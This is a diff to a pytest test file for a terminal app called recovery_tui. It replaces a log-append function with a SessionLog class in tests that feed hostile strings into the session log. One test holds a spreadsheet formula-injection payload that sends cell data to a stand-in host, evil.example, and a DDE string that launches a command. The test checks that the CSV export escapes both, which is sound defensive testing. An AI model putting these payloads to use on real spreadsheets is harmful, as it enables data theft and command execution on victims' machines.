@@ -18,7 +18,7 @@ import pytest
 from cli_helpers import cli, log_file
 from hostile_strings import EVIL, assert_safe, assert_shown_safely, evil_plan
 
-from recovery_tui.core.log import append_record
+from recovery_tui.core.journal import SessionLog
 from recovery_tui.core.record import ExerciseResult, SessionRecord
 from recovery_tui.core.safe_text import clean, clean_line
 
@@ -44,7 +44,7 @@ def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
     (folder / f"{BROKEN}.toml").write_text(bad, encoding="utf-8")
     log = log_file(root)
     for index, (key, evil) in enumerate(EVIL.items()):
-        append_record(log, evil_record(key, evil, index))
+        SessionLog(log).append(evil_record(key, evil, index))
     return root
 
 
@@ -124,7 +124,7 @@ def test_history_csv_quotes_formulas_from_the_log(tmp_path: Path) -> None:
     formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     record = evil_record("f", formula, 0)
     record.note = "@SUM(1+1)*cmd|' /C calc'!A0"
-    append_record(log_file(tmp_path), record)
+    SessionLog(log_file(tmp_path)).append(record)
     out, _ = run(tmp_path, "history", "--csv")
     [row] = list(csv.DictReader(io.StringIO(out)))
     assert (row["plan"], row["exercise"]) == ("'" + formula, "'" + formula)
